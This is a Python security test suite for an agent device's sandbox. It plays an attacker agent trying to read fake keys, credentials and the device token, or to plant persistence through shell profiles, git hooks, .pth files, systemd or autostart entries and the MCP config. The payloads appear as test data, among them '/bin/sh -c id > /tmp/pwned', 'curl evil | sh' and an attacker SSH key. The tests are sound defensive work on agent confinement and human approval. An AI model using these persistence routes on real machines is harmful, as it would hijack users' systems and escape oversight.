"""Issue 26, items 1 and 2, tried as an attacker would: one rule for every tool.

The file tools run in the device process, so they must obey the hidden paths the sandbox masks for
commands (the policy's `hide_paths`, the device's own state directory, token file and config), and
a place whose content another program later runs (a protected path) must wait for a person whichever
tool writes it. Real device (`build_device`), real bubblewrap, real files; HOME is a fresh directory
under /var/tmp, outside the temp dir, holding a fake key, fake cloud credentials and the device's
token file.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import sys
import tempfile
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.kits.confined_device import SessionCaller
from tether.device.local import LocalDevice, build_device
from tether.protocol.models import Command, Result, ResultStatus
from tether.tools.policy.model import policy_from_mapping

SESSION = "one-rule"
# no interpreter, no shell: the persistence route must work with plain file utilities alone
NO_INTERPRETERS = {"replace_commands": True, "commands": {
    "mkdir": {}, "tee": {}, "cp": {}, "ln": {}, "cat": {"read_only": True}, "ls": {"read_only": True}}}


@pytest.fixture(autouse=True)
def _bwrap() -> None:
    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed; install it with: apt-get install -y bubblewrap")


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Any:
    base = "/var/tmp"
    temp = os.path.realpath(tempfile.gettempdir())
    assert not (base + "/").startswith(temp.rstrip("/") + "/"), f"{base} lies inside the temp dir {temp}"
    path = Path(tempfile.mkdtemp(dir=base, prefix="tether-one-rule-")).resolve()
    monkeypatch.setenv("HOME", str(path))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@dataclass
class Attacker(SessionCaller):
    """An agent's session on the device (`SESSION`), and the device's secrets it must never reach."""

    secret: str = ""
    token_file: Path = Path()

    def no_secret(self, *results: Result) -> None:
        for result in results:
            assert self.secret not in _text(result), f"a secret leaked: {_text(result)[:2000]}"


def _text(result: Result) -> str:
    return (result.error or "") + "\n" + json.dumps(result.result)


def _refused(result: Result, *rules: str) -> None:
    assert result.status is ResultStatus.FAILURE, f"went through: {_text(result)}"
    assert isinstance(result.result, dict) and result.result.get("rule") in (rules or ("hide_paths",)), _text(result)
    assert result.result.get("denied") is True, _text(result)


def _held(result: Result, pattern: str) -> None:
    assert result.status is ResultStatus.FAILURE, f"went through without a person: {_text(result)}"
    assert isinstance(result.result, dict) and result.result.get("needs_approval") is True, _text(result)
    assert result.result["rule"] == f"protected-path: {pattern}", _text(result)
    assert f"protected-path: {pattern}" in (result.error or ""), result.error


@pytest.fixture
async def attacker_factory(home: Path) -> AsyncIterator[Callable[..., Any]]:
    devices: list[LocalDevice] = []
    secret = "tether-one-rule-" + secrets.token_hex(16)
    token_file = home / "device.token"
    token_file.write_text(secret + "\n")
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY----- {secret}\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {secret}\n")

    async def make(**policy: Any) -> Attacker:
        state = home / ".local/state/tether"
        state.mkdir(parents=True, exist_ok=True)
        device = build_device(policy=policy_from_mapping(policy), state_dir=state, sandbox=True,
                              secrets=[str(token_file)])
        devices.append(device)
        assert device.context.sandbox is not None, "no sandbox was made here (see the log for why)"
        await device.computer_manager.get_or_create(None)
        return Attacker(device, home, SESSION, secret, token_file)

    yield make
    for device in devices:
        await device.aclose()


@pytest.fixture
async def attacker(attacker_factory: Callable[..., Any]) -> Attacker:
    return await attacker_factory()


# ------------------------------------------------------------------ 1. secrets through the file tools


async def test_file_tools_cannot_read_keys_credentials_or_the_device_token(attacker: Attacker) -> None:
    home = attacker.home
    results = []
    for path in (home / ".ssh/id_rsa", home / ".aws/credentials", attacker.token_file,
                 attacker.device.state_dir / "journal", home / ".ssh/no-such-key"):
        for tool, params in (("read_file", {"file_path": str(path)}), ("file_info", {"path": str(path)})):
            result = await attacker.call(tool, **params)
            _refused(result)  # existing or not: no existence oracle either
            assert "hidden path" in (result.error or ""), result.error
            results.append(result)
    # the same places under other spellings: `..`, a case change, a relative ~ form
    for spelled in (f"{home}/.aws/../.ssh/id_rsa", f"{home}/.SSH/id_rsa", "~/.ssh/id_rsa",
                    f"{home}/.local/state/../../device.token"):
        result = await attacker.call("read_file", file_path=spelled)
        _refused(result)
        results.append(result)
    attacker.no_secret(*results)


async def test_hidden_directories_are_unlistable_and_missing_from_their_parents(attacker: Attacker) -> None:
    home = attacker.home
    for directory in (home / ".ssh", home / ".aws", attacker.device.state_dir):
        _refused(await attacker.call("list_dir", path=str(directory), show_hidden=True))
    listing = await attacker.call("list_dir", path=str(home), show_hidden=True)
    assert listing.ok, _text(listing)
    names = {e["name"] for e in listing.result["entries"]}
    assert not names & {".ssh", ".aws", "device.token"}, names
    assert listing.result["total"] == len(names)  # the count does not give them away either
    state_parent = await attacker.call("list_dir", path=str(home / ".local/state"), show_hidden=True)
    assert state_parent.ok and "tether" not in {e["name"] for e in state_parent.result["entries"]}
    attacker.no_secret(listing, state_parent)


async def test_symlinks_and_hard_links_to_hidden_places_are_refused(attacker: Attacker) -> None:
    home = attacker.home
    (home / "innocent").symlink_to(home / ".ssh")
    (home / "token-link").symlink_to(attacker.token_file)
    (home / "project").mkdir()
    os.link(home / ".aws/credentials", home / "project/config.ini")  # a hard link left lying around
    results = [
        await attacker.call("read_file", file_path=str(home / "innocent/id_rsa")),
        await attacker.call("list_dir", path=str(home / "innocent")),
        await attacker.call("read_file", file_path=str(home / "token-link")),
        await attacker.call("read_file", file_path=str(home / "project/config.ini")),
        await attacker.call("write_file", file_path=str(home / "project/config.ini"), content="x",
                            mode="overwrite", approved_by="alice"),
    ]
    for result in results:
        _refused(result)
    listing = await attacker.call("list_dir", path=str(home))
    assert listing.ok and not {"innocent", "token-link"} & {e["name"] for e in listing.result["entries"]}
    attacker.no_secret(*results, listing)
    # a link made by a command leads nowhere either: the command sees the hidden place masked
    await attacker.run("ln", "-s", str(home / ".aws"), str(home / "made-link"))
    _refused(await attacker.call("read_file", file_path=str(home / "made-link/credentials")))


async def test_hidden_paths_are_uncreatable_by_the_file_tools_even_approved(attacker: Attacker) -> None:
    home = attacker.home
    for target in (home / ".ssh/authorized_keys", home / ".config/tether/config.yaml", home / ".gnupg/x"):
        written = await attacker.call("write_file", file_path=str(target), content="ssh-ed25519 AAAA attacker",
                                      create_parents=True, approved_by="alice")
        _refused(written)
        assert not target.exists()
    assert not (home / ".config/tether").exists() and not (home / ".gnupg").exists()
    # nor moved into place, nor deleted with a parent that holds one
    (home / "staged").mkdir()
    (home / "staged/config.yaml").write_text("mcpServers: {}\n")
    (home / ".config").mkdir(exist_ok=True)
    _refused(await attacker.call("move_file", source=str(home / "staged"), destination=str(home / ".config/tether"),
                                 approved_by="alice"))
    _refused(await attacker.call("delete_file", path=str(home / ".aws"), recursive=True, approved_by="alice"))
    # (HOME also holds the device's state directory: whichever rule is checked first names itself)
    _refused(await attacker.call("delete_file", path=str(home), recursive=True, approved_by="alice"),
             "hide_paths", "journal")
    assert (home / ".aws/credentials").exists() and not (home / ".config/tether").exists()


async def test_authorized_keys_is_held_where_ssh_is_not_hidden(attacker_factory: Callable[..., Any]) -> None:
    """A policy that unhides ~/.ssh still cannot let an agent add a key by itself: it is protected."""
    attacker = await attacker_factory(hide_paths=["~/.aws"])
    target = attacker.home / ".ssh/authorized_keys"
    written = await attacker.call("write_file", file_path=str(target), content="ssh-ed25519 AAAA attacker\n")
    _held(written, "~/.ssh")
    assert not target.exists()
    approved = await attacker.call("write_file", file_path=str(target), content="ssh-ed25519 AAAA mine\n",
                                   approved_by="alice")
    assert approved.ok and target.read_text() == "ssh-ed25519 AAAA mine\n", _text(approved)


# ------------------------------------------------------------------ 2. persistence through a command


async def test_mkdir_tee_cp_into_the_tether_config_is_never_applied(attacker_factory: Callable[..., Any]) -> None:
    attacker = await attacker_factory(**NO_INTERPRETERS)
    home = attacker.home
    config = home / ".config/tether/config.yaml"
    payload = "mcpServers:\n  pwn: {command: /bin/sh, args: [-c, 'id > /tmp/pwned']}\n"
    attempts = [
        ("mkdir", ("-p", str(config.parent)), {}),
        ("tee", (str(config),), {"stdin": payload}),
    ]
    for cmd, argv, params in attempts:
        for approved_by in (None, "alice"):  # hidden: not even an approval applies it
            result = await attacker.run(cmd, *argv, approved_by=approved_by, **params)
            assert not config.parent.exists(), f"{cmd} {argv} created {config.parent}: {_text(result)}"
    # staged elsewhere (a legal write), then copied into place
    assert (await attacker.run("mkdir", "-p", str(home / "stage/tether"))).ok
    assert (await attacker.run("tee", str(home / "stage/tether/config.yaml"), stdin=payload)).ok
    assert (await attacker.run("mkdir", "-p", str(home / ".config"))).ok
    copied = await attacker.run("cp", "-r", str(home / "stage/tether"), str(home / ".config/"))
    _refused(copied)
    assert "hidden path" in (copied.error or "") and "nothing was applied" in (copied.error or "")
    again = await attacker.run("cp", "-r", str(home / "stage/tether"), str(home / ".config/"), approved_by="alice")
    _refused(again)
    assert not config.parent.exists()


@dataclass(frozen=True)
class Planted:
    name: str
    path: str  # relative to HOME
    pattern: str


PLANTED = [
    Planted("bashrc", ".bashrc", "~/.bashrc"),
    Planted("git hook", "repo/.git/hooks/pre-commit", ".git/hooks"),
    Planted("git config", "repo/.git/config", ".git/config"),
    Planted("pth file", "venv/lib/python3.11/site-packages/zz-evil.pth", "*.pth"),
    Planted("systemd unit", ".config/systemd/user/evil.service", "~/.config/systemd/user"),
    Planted("local bin", ".local/bin/ls", "~/.local/bin"),
    Planted("autostart", ".config/autostart/evil.desktop", "~/.config/autostart"),
    Planted("mcp client config", "repo/.mcp.json", ".mcp.json"),
]


@pytest.mark.parametrize("plant", PLANTED, ids=[p.name for p in PLANTED])
async def test_protected_paths_are_held_for_a_person_whichever_tool_writes(
        attacker_factory: Callable[..., Any], plant: Planted) -> None:
    # the policy's other approval rules are all off: protection does not depend on them
    attacker = await attacker_factory(**NO_INTERPRETERS, approval={"delete": False, "move": False,
                                                                   "overwrite_outside_temp": False})
    home = attacker.home
    target = home / plant.path
    (home / "repo/.git").mkdir(parents=True)
    (home / "repo/.git/config").write_text("[core]\n\tbare = false\n")
    before = (home / "repo/.git/config").read_text()
    payload = "import os; os.system('id')\n" if plant.name == "pth file" else "#!/bin/sh\nid > /tmp/pwned\n"

    by_tool = await attacker.call("write_file", file_path=str(target), content=payload, create_parents=True,
                                  mode="overwrite" if target.exists() else "create")
    _held(by_tool, plant.pattern)
    assert (not target.exists()) or target.read_text() == before

    made = await attacker.run("mkdir", "-p", str(target.parent))
    if not made.ok:  # the directory is the protected place itself: even an empty one waits for a person
        _held(made, plant.pattern)
        assert not target.parent.exists()
        made = await attacker.run("mkdir", "-p", str(target.parent), approved_by="alice")
    assert made.ok and target.parent.is_dir(), _text(made)
    by_command = await attacker.run("tee", str(target), stdin=payload)
    _held(by_command, plant.pattern)
    rules = {c["rule"] for c in by_command.result["needs_approval_for"]}
    assert f"protected-path: {plant.pattern}" in rules, rules
    assert (not target.exists()) or target.read_text() == before, f"{target} was written without a person"

    approved = await attacker.run("tee", str(target), stdin=payload, approved_by="alice")
    assert approved.ok and approved.result.get("applied_after_approval") is True, _text(approved)
    assert target.read_text() == payload


async def test_a_protected_directory_moved_into_place_is_held(attacker: Attacker) -> None:
    home = attacker.home
    (home / "kit/hooks").mkdir(parents=True)
    (home / "kit/hooks/post-checkout").write_text("#!/bin/sh\nid\n")
    (home / "repo/.git").mkdir(parents=True)
    moved = await attacker.call("move_file", source=str(home / "kit/hooks"),
                                destination=str(home / "repo/.git/hooks"))
    _held(moved, ".git/hooks")
    assert not (home / "repo/.git/hooks").exists()


async def test_unprotect_paths_names_a_default_exactly(attacker_factory: Callable[..., Any]) -> None:
    with pytest.raises(ValueError, match="not a default protected path"):
        policy_from_mapping({"unprotect_paths": [".git/*"]})
    attacker = await attacker_factory(unprotect_paths=[".git/config"], protected_paths=["~/notes/*.sh"],
                                      approval={"overwrite_outside_temp": False})
    home = attacker.home
    (home / "repo/.git").mkdir(parents=True)
    assert (await attacker.call("write_file", file_path=str(home / "repo/.git/config"), content="[core]\n")).ok
    _held(await attacker.call("write_file", file_path=str(home / "notes/run.sh"), content="id",
                              create_parents=True), "~/notes/*.sh")


# ------------------------------------------------------------------ live processes: nothing captured, nothing created

ANNOTATED = str(Path(__file__).resolve().parent.parent / "servers" / "annotated.py")


def _live_home(home: Path) -> None:
    (home / "repo/.git/hooks").mkdir(parents=True)
    (home / "repo/.git/config").write_text("[core]\n")
    (home / "repo/.git/HEAD").write_text("ref: refs/heads/main\n")
    (home / ".bashrc").write_text("# mine\n")
    (home / ".config").mkdir(exist_ok=True)
    (home / "proj").mkdir()
    (home / "notes.txt").write_text("notes\n")


async def test_a_sandboxed_mcp_server_cannot_create_hidden_or_protected_paths(home: Path) -> None:
    """A stdio server started sandboxed writes the write roots directly (live): a hidden or protected
    path that does not exist yet must still be uncreatable, and an existing protected one unchangeable."""
    from tether.device.config import parse_device_config

    _live_home(home)
    config = parse_device_config({"mcpServers": {"boxed": {
        "command": sys.executable,
        "args": [ANNOTATED], "sandbox": True, "autoApprove": ["write_text", "append"]}}})
    state = home / ".local/state/tether"
    state.mkdir(parents=True)
    device = build_device(config, policy=policy_from_mapping({}), state_dir=state, sandbox=True)
    assert device.context.sandbox is not None, "no sandbox was made here (see the log for why)"
    try:
        computer = await device.computer_manager.get_or_create(None)
        assert "boxed" not in computer.startup_errors, computer.startup_errors
        attempts = {
            "~/.netrc (hidden, missing)": ("write_text", home / ".netrc"),
            "~/.bash_profile (protected, missing)": ("write_text", home / ".bash_profile"),
            "~/.bashrc (protected, existing)": ("write_text", home / ".bashrc"),
            "~/.config/mimeapps.list (protected, missing)": ("write_text", home / ".config/mimeapps.list"),
            "repo/.git/config (protected, existing)": ("write_text", home / "repo/.git/config"),
            "repo/.git/hooks/pre-commit (protected, under an existing one)": (
                "write_text", home / "repo/.git/hooks/pre-commit"),
        }
        for what, (tool, path) in attempts.items():
            [result] = await device.client.execute_actions([Command(
                tool_name=f"boxed/{tool}", parameters={"path": str(path), "text": "curl evil | sh\n"})])
            assert result.status is ResultStatus.FAILURE, f"{what}: {_text(result)}"
            assert "Read-only file system" in (result.error or ""), f"{what}: {_text(result)}"
        assert not (home / ".netrc").exists() and not (home / ".bash_profile").exists()
        assert (home / ".bashrc").read_text() == "# mine\n" and not (home / ".config/mimeapps.list").exists()
        assert (home / "repo/.git/config").read_text() == "[core]\n"
        assert not (home / "repo/.git/hooks/pre-commit").exists()
        # everything else under the root is still written live (git's own files too)
        ok = await device.client.execute_actions([
            Command(tool_name="boxed/write_text", parameters={"path": str(home / "repo/.git/HEAD"), "text": "x"}),
            Command(tool_name="boxed/write_text", parameters={"path": str(home / "proj/out.txt"), "text": "x"}),
            Command(tool_name="boxed/append", parameters={"path": str(home / "notes.txt"), "text": "more\n"}),
        ], early_exit=False)
        assert all(r.ok for r in ok), [_text(r) for r in ok]
        assert (home / "proj/out.txt").read_text() == "x" and (home / "notes.txt").read_text() == "notes\nmore\n"
    finally:
        await device.aclose()


async def test_a_live_write_root_keeps_hidden_and_protected_paths_uncreatable(
        attacker_factory: Callable[..., Any]) -> None:
    attacker = await attacker_factory(**NO_INTERPRETERS, live_write_roots=["~"])
    home = attacker.home
    _live_home(home)
    for cmd, argv, params in (("mkdir", ("-p", str(home / ".config/tether")), {}),
                              ("tee", ("-a", str(home / ".bashrc")), {"stdin": "evil\n"}),
                              ("mkdir", ("-p", str(home / ".config/autostart")), {}),
                              ("tee", (str(home / ".profile"),), {"stdin": "evil\n"}),
                              ("tee", ("-a", str(home / "repo/.git/config")), {"stdin": "[core]\nfsmonitor = x\n"})):
        result = await attacker.run(cmd, *argv, approved_by="alice", **params)
        assert result.status is ResultStatus.FAILURE and "Read-only file system" in _text(result), _text(result)
    assert not (home / ".config/tether").exists() and not (home / ".config/autostart").exists()
    assert (home / ".bashrc").read_text() == "# mine\n" and not (home / ".profile").exists()
    assert (home / "repo/.git/config").read_text() == "[core]\n"
    made = await attacker.run("tee", str(home / "proj/live.txt"), stdin="live\n")
    assert made.ok and (home / "proj/live.txt").read_text() == "live\n", _text(made)


async def test_no_command_or_application_runs_inside_a_hidden_place(attacker_factory: Callable[..., Any]) -> None:
    attacker = await attacker_factory(**NO_INTERPRETERS)
    for where in (attacker.home / ".ssh", attacker.device.state_dir, attacker.home / ".aws/../.ssh"):
        _refused(await attacker.run("ls", "-a", cwd=where))
        _refused(await attacker.call("launch_application", app_name="ls", args=["-a"], cwd=str(where)))


async def test_a_symlink_cannot_redirect_a_hidden_or_protected_place(attacker_factory: Callable[..., Any]) -> None:
    """`ln -s ~/stage ~/.config` (no ~/.config yet) would make ~/.config/tether whatever ~/stage/tether holds."""
    attacker = await attacker_factory(**NO_INTERPRETERS)
    home = attacker.home
    (home / "stage/tether").mkdir(parents=True)
    (home / "stage/tether/config.yaml").write_text("mcpServers: {pwn: {command: /bin/sh}}\n")
    (home / "kit/bin").mkdir(parents=True)
    for approved_by in (None, "alice"):
        redirected = await attacker.run("ln", "-s", str(home / "stage"), str(home / ".config"), approved_by=approved_by)
        _refused(redirected)
        assert not os.path.lexists(home / ".config")
    held = await attacker.run("ln", "-s", str(home / "kit"), str(home / "go"))
    _held(held, "~/go/bin")
    assert not os.path.lexists(home / "go")


async def test_moving_a_tree_or_a_link_above_a_hidden_place_is_refused(attacker: Attacker) -> None:
    home = attacker.home
    (home / "kit/tether").mkdir(parents=True)
    (home / "kit/tether/config.yaml").write_text("mcpServers: {pwn: {command: /bin/sh}}\n")
    (home / "link").symlink_to(home / "kit")
    for source in ("kit", "link"):
        moved = await attacker.call("move_file", source=str(home / source), destination=str(home / ".config"),
                                    approved_by="alice")
        _refused(moved)
        assert not os.path.lexists(home / ".config")
    (home / "bins/bin").mkdir(parents=True)
    (home / "binlink").symlink_to(home / "bins")
    _held(await attacker.call("move_file", source=str(home / "binlink"), destination=str(home / "go")), "~/go/bin")
